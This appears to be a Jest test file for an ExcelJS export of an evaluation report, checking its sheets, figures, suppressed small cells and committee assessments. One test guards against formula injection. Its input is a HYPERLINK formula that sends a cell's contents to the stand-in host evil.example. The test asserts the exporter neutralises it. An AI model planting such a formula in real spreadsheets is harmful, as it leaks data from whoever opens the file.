import ExcelJS from 'exceljs';
import { renderEvaluationXlsx } from './evaluation-xlsx';
import type { EvaluationReportInput } from './report-input';
import { evaluationInput, evaluationSnapshot, indicatorSnapshot, PLAN_TITLE } from './report-input.factory';

async function readBack(input: EvaluationReportInput): Promise<ExcelJS.Workbook> {
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load((await renderEvaluationXlsx(input)) as unknown as ArrayBuffer);
  return wb;
}

/** A sheet as rows of header → value. */
function records(ws: ExcelJS.Worksheet): Record<string, ExcelJS.CellValue>[] {
  const headers = (ws.getRow(1).values as ExcelJS.CellValue[]).slice(1).map(String);
  const out: Record<string, ExcelJS.CellValue>[] = [];
  ws.eachRow((row, n) => {
    if (n === 1) return;
    out.push(Object.fromEntries(headers.map((h, i) => [h, row.getCell(i + 1).value])));
  });
  return out;
}

describe(renderEvaluationXlsx.name, () => {
  it('has the four sheets « Indicateurs », « Séries », « Ventilations », « Appréciations »', async () => {
    // Arrange / Act
    const wb = await readBack(evaluationInput());
    // Assert
    expect(wb.worksheets.map((ws) => ws.name)).toEqual(['Indicateurs', 'Séries', 'Ventilations', 'Appréciations']);
    expect(wb.title).toContain(PLAN_TITLE);
  });

  it('has one row per indicator, with its figures as numbers', async () => {
    // Arrange / Act
    const rows = records((await readBack(evaluationInput())).getWorksheet('Indicateurs') as ExcelJS.Worksheet);
    // Assert
    expect(rows).toHaveLength(3);
    expect(rows[0]).toMatchObject({
      'Code objectif': '3.1',
      Indicateur: 'Nombre de participants à la Journée de Bienvenue',
      'Valeur de référence': 0,
      'Cible à mi-parcours': 250,
      'Cible finale': 550,
      'Valeur à la date de coupure': 325,
      n: 325,
      Statut: 'En bonne voie',
    });
    expect(rows[2]).toMatchObject({ Indicateur: 'Nombre de publications', 'Valeur à la date de coupure': null, Statut: 'Sans donnée' });
  });

  it('has the series per period and the breakdowns per category, suppressed cells marked, never 0', async () => {
    // Arrange
    const wb = await readBack(evaluationInput());
    // Act
    const series = records(wb.getWorksheet('Séries') as ExcelJS.Worksheet);
    const breakdowns = records(wb.getWorksheet('Ventilations') as ExcelJS.Worksheet);
    // Assert
    expect(series).toHaveLength(4);
    expect(series[3]).toMatchObject({
      Période: '2022',
      'Début de période': '2022-01-01',
      Valeur: 50,
      n: 100,
      'Valeur cumulée': 43.33,
      'n cumulé': 180,
    });
    expect(breakdowns).toContainEqual(expect.objectContaining({ Dimension: 'Genre', Catégorie: 'Femme', Valeur: 180, n: 180 }));
    const suppressed = breakdowns.filter((r) =>
      ['Personne non binaire', 'Non consigné', '65 ans et plus', 'Moins de 18 ans', 'Préfère ne pas répondre'].includes(
        r['Catégorie'] as string,
      ),
    );
    expect(suppressed).toHaveLength(6);
    for (const r of suppressed) expect([r.Valeur, r.n]).toEqual(['supprimé', 'supprimé']);
  });

  it("has the committee's assessment of every objective", async () => {
    // Arrange / Act
    const rows = records((await readBack(evaluationInput())).getWorksheet('Appréciations') as ExcelJS.Worksheet);
    // Assert
    expect(rows).toEqual([
      expect.objectContaining({
        'Code objectif': '3.1',
        Appréciation: 'En bonne voie',
        Recommandations: 'Traduire le questionnaire en ourdou.',
      }),
      expect.objectContaining({ 'Code objectif': '4.1', Appréciation: null }),
    ]);
  });

  it('never lets a cell start a formula: text that would is prefixed with a single quote', async () => {
    // Arrange
    const name = '=HYPERLINK("http://evil.example/?leak="&A1,"Cliquez ici")';
    const snapshot = evaluationSnapshot();
    snapshot.orientations[0].objectives[0].indicators = [indicatorSnapshot({ name, unit: '+1' })];
    const input = evaluationInput({
      snapshot,
      assessments: [
        { objectiveId: '00000000-0000-4000-8000-000000000021', rating: 'at_risk', comment: '@SUM(1+1)', recommendations: '-2+3' },
      ],
    });
    // Act
    const wb = await readBack(input);
    // Assert
    for (const ws of wb.worksheets) {
      ws.eachRow((row) =>
        row.eachCell((cell) => {
          expect(cell.type).not.toBe(ExcelJS.ValueType.Formula);
          if (typeof cell.value === 'string') expect(cell.value).not.toMatch(/^[=+\-@\t\r]/);
        }),
      );
    }
    const indicator = records(wb.getWorksheet('Indicateurs') as ExcelJS.Worksheet)[0];
    expect(indicator).toMatchObject({ Indicateur: `'${name}`, Unité: "'+1" });
    expect(records(wb.getWorksheet('Appréciations') as ExcelJS.Worksheet)[0]).toMatchObject({
      Commentaire: "'@SUM(1+1)",
      Recommandations: "'-2+3",
    });
  });

  it('puts the mid-term value beside the final one in a final evaluation, in English when asked', async () => {
    // Arrange
    const input = evaluationInput({
      kind: 'final',
      language: 'en',
      midterm: { cutoff: '2022-09-30', values: { '00000000-0000-4000-8000-000000000101': { value: 300, n: 300 } } },
    });
    // Act
    const wb = await readBack(input);
    // Assert
    expect(wb.worksheets.map((ws) => ws.name)).toEqual(['Indicators', 'Series', 'Breakdowns', 'Assessments']);
    expect(records(wb.getWorksheet('Indicators') as ExcelJS.Worksheet)[0]).toMatchObject({
      Baseline: 0,
      'Mid-term value': 300,
      'Mid-term n': 300,
      'Final value': 325,
      Status: 'On track',
    });
    expect(records(wb.getWorksheet('Breakdowns') as ExcelJS.Worksheet)).toContainEqual(
      expect.objectContaining({ Category: 'Non-binary person', Value: 'suppressed', n: 'suppressed' }),
    );
  });
});
